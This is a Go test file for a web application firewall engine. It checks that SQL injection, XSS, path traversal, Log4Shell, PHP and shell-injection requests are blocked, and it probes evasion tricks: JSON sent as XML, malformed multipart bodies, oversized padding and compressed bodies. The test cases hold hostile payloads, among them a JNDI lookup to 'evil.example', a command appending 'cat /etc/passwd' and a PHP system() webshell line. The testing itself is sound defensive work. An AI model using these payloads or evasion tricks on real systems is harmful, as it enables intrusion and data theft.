package waf

import (
	"io"
	"mime/multipart"
	"net/http"
	"net/netip"
	"slices"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"
)

var (
	engineOnce sync.Once
	engine     *Engine
	engineErr  error
)

func testEngine(t testing.TB) *Engine {
	t.Helper()
	engineOnce.Do(func() { engine, engineErr = New(Config{Paranoia: 1, Threshold: 5}) })
	if engineErr != nil {
		t.Fatal(engineErr)
	}
	return engine
}

func inspect(t testing.TB, e *Engine, method, target, ctype, body string) Verdict {
	t.Helper()
	r, err := http.NewRequest(method, "https://api.example.com"+target, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	r.RequestURI = target
	r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")
	r.Header.Set("Accept", "application/json")
	if ctype != "" {
		r.Header.Set("Content-Type", ctype)
	}
	v, err := e.Inspect(r, []byte(body), netip.MustParseAddrPort("198.51.100.7:40000"), netip.MustParseAddrPort("10.0.0.1:8443"))
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func TestInspect(t *testing.T) {
	e := testEngine(t)
	tests := []struct {
		name, method, target, ctype, body string
		blocked                           bool
	}{
		{"benign_get", "GET", "/orders/42?expand=items", "", "", false},
		{"benign_json", "POST", "/orders", "application/json", `{"item":"book","qty":2,"note":"gift wrap, please"}`, false},
		{"sqli_query", "GET", "/orders?id=1%27%20OR%20%271%27%3D%271", "", "", true},
		{"sqli_union_json", "POST", "/search", "application/json", `{"q":"1 UNION SELECT username, password FROM users--"}`, true},
		{"xss_query", "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", "", true},
		{"path_traversal", "GET", "/files?name=..%2F..%2F..%2Fetc%2Fpasswd", "", "", true},
		{"log4shell", "GET", "/orders?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "", "", true},
		{"php_injection", "POST", "/comments", "application/x-www-form-urlencoded", "text=<?php system($_GET['c']); ?>", true},
		{"shell_injection", "GET", "/ping?host=127.0.0.1%3B%20cat%20%2Fetc%2Fpasswd", "", "", true},
		// A JSON body under a type whose body processor does not parse it
		// as JSON: the app may parse it as JSON anyway, where \u0027 is a
		// quote. Coraza's XML processor sees none (before: not blocked).
		{"json_labeled_xml", "POST", "/orders", "application/xml", `{"name":"x\u0027 or 1=1-- "}`, true},
		{"json_labeled_text_xml", "POST", "/orders", "text/xml; charset=utf-8", `{"name":"x\u0027 or 1=1-- "}`, true},
		{"json_labeled_soap_xml", "POST", "/orders", "application/soap+xml", `{"name":"x\u0027 or 1=1-- "}`, true},
		{"json_array_labeled_xml", "POST", "/orders", "application/xml", ` [{"name":"x\u0027 or 1=1-- "}]`, true},
		{"json_bom_labeled_xml", "POST", "/orders", "application/xml", "\ufeff" + `{"name":"x\u0027 or 1=1-- "}`, true},
		{"json_unlabeled", "POST", "/orders", "", `{"name":"x\u0027 or 1=1-- "}`, true},
		{"benign_json_labeled_xml", "POST", "/orders", "application/xml", `{"item":"book","qty":2}`, false},
		{"benign_xml", "POST", "/orders", "application/xml", `<order><item>book</item><qty>2</qty></order>`, false},
		{"benign_braces_not_json", "POST", "/orders", "application/xml", `{item: book}`, false},
		// JSON shapes that hide a value from a naive reader: all seen
		// (probed in the review, sound).
		{"json_top_level_string", "POST", "/orders", "application/json", `"1' or 1=1-- "`, true},
		{"json_attack_in_name", "POST", "/orders", "application/json", `{"1' or 1=1-- ":1}`, true},
		{"json_escaped_xss", "POST", "/orders", "application/json", `{"a":"<scr\u0069pt>alert(1)</script>"}`, true},
		{"json_nested_past_depth_limit", "POST", "/orders", "application/json", strings.Repeat("[", 2000) + `"x"` + strings.Repeat("]", 2000), true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := inspect(t, e, tt.method, tt.target, tt.ctype, tt.body)
			if v.Blocked != tt.blocked {
				t.Fatalf("blocked = %v, want %v (rules %v)", v.Blocked, tt.blocked, v.RuleIDs)
			}
			if tt.blocked && len(v.RuleIDs) == 0 {
				t.Fatal("blocked without naming a rule")
			}
		})
	}
}

func TestDetectOnlyAndExclusions(t *testing.T) {
	if raceEnabled {
		t.Skip("builds three engines (minutes under -race); make test runs it without -race")
	}
	d, err := New(Config{Detect: true, Paranoia: 1, Threshold: 5})
	if err != nil {
		t.Fatal(err)
	}
	v := inspect(t, d, "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", "")
	if v.Blocked || !v.WouldBlock || len(v.RuleIDs) == 0 {
		t.Fatalf("detect mode verdict %+v", v)
	}
	base := inspect(t, testEngine(t), "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", "")
	x, err := New(Config{Paranoia: 1, Threshold: 5, Exclusions: append(base.RuleIDs, 949110)})
	if err != nil {
		t.Fatal(err)
	}
	if v := inspect(t, x, "GET", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", ""); v.Blocked {
		t.Fatalf("excluded rules still block: %+v", v)
	}
}

// cpuTime is the process's user and system CPU time: on the shared
// machine wall-clock ns/op mostly measures waiting for a core, cpu-ns/op
// what an inspection costs.
func cpuTime() time.Duration {
	var ru syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &ru); err != nil {
		return 0
	}
	return time.Duration(ru.Utime.Nano() + ru.Stime.Nano())
}

// benchInspect inspects one request per iteration with the paranoia-1
// engine (compiled and warmed with a few requests before the clock
// starts, as a serving gateway is: RE2 builds its DFA states lazily) and
// reports cpu-ns/op.
func benchInspect(b *testing.B, method, target, ctype, body string) {
	e := testEngine(b)
	for range 20 {
		inspect(b, e, method, target, ctype, body)
	}
	b.ReportAllocs()
	b.SetBytes(int64(len(body)))
	start, n := cpuTime(), 0
	for b.Loop() {
		if v := inspect(b, e, method, target, ctype, body); v.WouldBlock {
			b.Fatalf("benign request blocked by rules %v", v.RuleIDs)
		}
		n++
	}
	b.ReportMetric(float64(cpuTime()-start)/float64(n), "cpu-ns/op")
}

// jsonOrder1K is a 1 KB JSON order, the reference request.
var jsonOrder1K = `{"customer":{"id":"c-1029","name":"Ada Lovelace","email":"ada@example.com"},"items":[` +
	strings.Repeat(`{"sku":"BK-1001","title":"Notes on the Analytical Engine","qty":1,"price":19.99},`, 9) +
	`{"sku":"BK-1002","title":"Sketch","qty":1,"price":9.5}],"note":"deliver after 5pm"}`

func BenchmarkInspectJSON1K(b *testing.B) {
	benchInspect(b, "POST", "/orders", "application/json", jsonOrder1K)
}

func BenchmarkInspectGET(b *testing.B) {
	benchInspect(b, "GET", "/orders/42?expand=items", "", "")
}

func BenchmarkInspectForm1K(b *testing.B) {
	benchInspect(b, "POST", "/orders", "application/x-www-form-urlencoded",
		"customer=c-1029&name=Ada+Lovelace&email=ada%40example.com&note="+strings.Repeat("deliver+after+5pm+", 52))
}

// TestBodyOverInspectLimit: an attack placed past MaxInspectBytes is not
// waved through. A blocking engine refuses the body uninspected; a
// detecting one inspects what it can and reports that it would block.
func TestBodyOverInspectLimit(t *testing.T) {
	pad := strings.Repeat("a", 2<<10)
	form := "pad=" + pad + "&q=1%27%20or%201%3D1--%20"
	multipart := "--b\r\nContent-Disposition: form-data; name=\"pad\"\r\n\r\n" + pad + "\r\n--b\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n1' or 1=1-- \r\n--b--\r\n"
	for _, detect := range []bool{false, true} {
		e, err := New(Config{Paranoia: 1, Threshold: 5, MaxInspectBytes: 1 << 10, Detect: detect})
		if err != nil {
			t.Fatal(err)
		}
		tests := []struct {
			name, ctype, body string
			tooLarge          bool
		}{
			{"form_padded_attack", "application/x-www-form-urlencoded", form, true},
			{"multipart_padded_attack", "multipart/form-data; boundary=b", multipart, true},
			{"benign_within_limit", "application/x-www-form-urlencoded", "item=book&qty=2", false},
			{"benign_at_limit", "application/x-www-form-urlencoded", "note=" + strings.Repeat("b", 1<<10-5), false},
		}
		for _, tt := range tests {
			t.Run(map[bool]string{false: "block", true: "detect"}[detect]+"/"+tt.name, func(t *testing.T) {
				v := inspect(t, e, "POST", "/orders", tt.ctype, tt.body)
				if v.TooLarge != tt.tooLarge || v.WouldBlock != tt.tooLarge || v.Blocked != (tt.tooLarge && !detect) {
					t.Fatalf("verdict %+v, want too large %v (detect %v)", v, tt.tooLarge, detect)
				}
			})
		}
	}
}

// TestContentEncodingRefused: the rules read the body as sent, so a
// compressed body (which the app may inflate) is unreadable to them; the
// Core Rule Set's 920450 refuses any Content-Encoding on a request, in any
// spelling. (Excluding 920450 lets compressed bodies through uninspected.)
func TestContentEncodingRefused(t *testing.T) {
	e := testEngine(t)
	for _, ce := range []string{"gzip", "GZIP", "x-gzip", "deflate", "br", "zstd", "identity", "gzip, identity", " gzip"} {
		t.Run(strings.TrimSpace(strings.ReplaceAll(ce, ", ", "_")), func(t *testing.T) {
			body := `{"item":"book"}`
			r, _ := http.NewRequest("POST", "https://api.example.com/orders", strings.NewReader(body))
			r.RequestURI = "/orders"
			r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")
			r.Header.Set("Accept", "application/json")
			r.Header.Set("Content-Type", "application/json")
			r.Header.Set("Content-Encoding", ce)
			v, err := e.Inspect(r, []byte(body), netip.MustParseAddrPort("198.51.100.7:40000"), netip.MustParseAddrPort("10.0.0.1:8443"))
			if err != nil || !v.Blocked || !slices.Contains(v.RuleIDs, 920450) {
				t.Fatalf("Content-Encoding %q: verdict %+v, err %v", ce, v, err)
			}
		})
	}
}

// TestMultipartOutsideParts: a multipart body that parsers could split
// into different parts is refused before the rules run; well-formed ones
// (browsers', curl's, LF-only, quoted boundaries) are inspected as before.
func TestMultipartOutsideParts(t *testing.T) {
	e := testEngine(t)
	atk := "1' or 1=1-- "
	part := func(name, value string) string {
		return "--b\r\nContent-Disposition: form-data; name=\"" + name + "\"\r\n\r\n" + value + "\r\n"
	}
	tests := []struct {
		name, ctype, body string
		malformed         bool
		blocked           bool
	}{
		{"benign", "multipart/form-data; boundary=b", part("item", "book") + "--b--\r\n", false, false},
		{"benign_lf_only", "multipart/form-data; boundary=b", "--b\nContent-Disposition: form-data; name=\"item\"\n\nbook\n--b--\n", false, false},
		{"benign_quoted_boundary", "multipart/form-data; boundary=\"----WebKitFormBoundaryx7\"", "------WebKitFormBoundaryx7\r\nContent-Disposition: form-data; name=\"item\"\r\n\r\nbook\r\n------WebKitFormBoundaryx7--\r\n", false, false},
		{"attack_in_part", "multipart/form-data; boundary=b", part("q", atk) + "--b--\r\n", false, true},
		// Before: passed (the rules saw no part holding the attack).
		{"part_in_preamble_lookalike", "multipart/form-data; boundary=b", "--bx\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + atk + "\r\n" + part("ok", "fine") + "--b--\r\n", true, true},
		{"part_after_close", "multipart/form-data; boundary=b", part("ok", "fine") + "--b--\r\n" + part("q", atk) + "--b--\r\n", true, true},
		{"preamble_text", "multipart/form-data; boundary=b", "hello\r\n" + part("ok", "fine") + "--b--\r\n", true, true},
		{"lookalike_inside", "multipart/form-data; boundary=b", part("ok", "fine") + "--b2\r\nContent-Disposition: form-data; name=\"q\"\r\n\r\n" + atk + "\r\n--b--\r\n", true, true},
		{"no_close", "multipart/form-data; boundary=b", part("ok", "fine"), true, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			v := inspect(t, e, "POST", "/orders", tt.ctype, tt.body)
			if (v.Malformed != "") != tt.malformed || v.Blocked != tt.blocked {
				t.Fatalf("verdict %+v, want malformed %v, blocked %v", v, tt.malformed, tt.blocked)
			}
		})
	}
}

// FuzzMultipartOutside: the check never panics, and a body it accepts
// starts with a delimiter line and has nothing but whitespace after the
// first close delimiter line (what the rules' parser reads as parts is
// all there is); Go's reader then reads it or refuses it, and a refusal
// is a body-processor error the rules block.
func FuzzMultipartOutside(f *testing.F) {
	for _, s := range []string{
		"--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nx\r\n--b--\r\n",
		"--bx\r\n\r\nx\r\n--b\r\n\r\ny\r\n--b--", "\r\n--b\r\n\r\n--b--\r\nz", "--b--", "--b\n\nx\n--b--\n",
	} {
		f.Add(s)
	}
	h := http.Header{"Content-Type": {"multipart/form-data; boundary=b"}}
	f.Fuzz(func(t *testing.T, body string) {
		if multipartOutside(h, []byte(body)) != "" {
			return
		}
		if !strings.HasPrefix(strings.TrimLeft(body, "\r\n"), "--b") {
			t.Fatalf("accepted a body with a preamble: %q", body)
		}
		closed := false
		for _, line := range strings.Split(body, "\n") {
			switch {
			case closed && strings.Trim(line, " \t\r") != "":
				t.Fatalf("accepted content after the close delimiter: %q", body)
			case strings.TrimRight(line, " \t\r") == "--b--":
				closed = true
			}
		}
		if !closed {
			t.Fatalf("accepted a body without a close delimiter line: %q", body)
		}
		mr := multipart.NewReader(strings.NewReader(body), "b")
		for {
			p, err := mr.NextPart()
			if err == io.EOF {
				return
			}
			if err != nil {
				// Go's reader refuses what the check let through: the rules
				// would see a body-processor error and block, which is safe;
				// only a part they would skip is not.
				return
			}
			io.Copy(io.Discard, p)
		}
	})
}

// TestTwoContentTypesRefused: a body with two Content-Type fields, which
// parsers resolve differently (first, last, joined), is blocked by CRS
// 920620 or before the rules run (probed in the review, sound).
func TestTwoContentTypesRefused(t *testing.T) {
	e := testEngine(t)
	for _, cts := range [][]string{{"application/json", "multipart/form-data; boundary=b"}, {"multipart/form-data; boundary=b", "application/json"}, {"application/x-www-form-urlencoded", "application/json"}} {
		body := `{"item":"book"}`
		r, _ := http.NewRequest("POST", "https://api.example.com/orders", strings.NewReader(body))
		r.RequestURI = "/orders"
		r.Header.Set("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")
		r.Header.Set("Accept", "application/json")
		r.Header["Content-Type"] = cts
		if v, err := e.Inspect(r, []byte(body), netip.MustParseAddrPort("198.51.100.7:40000"), netip.MustParseAddrPort("10.0.0.1:8443")); err != nil || !v.Blocked {
			t.Errorf("Content-Type %q: verdict %+v, err %v", cts, v, err)
		}
	}
}
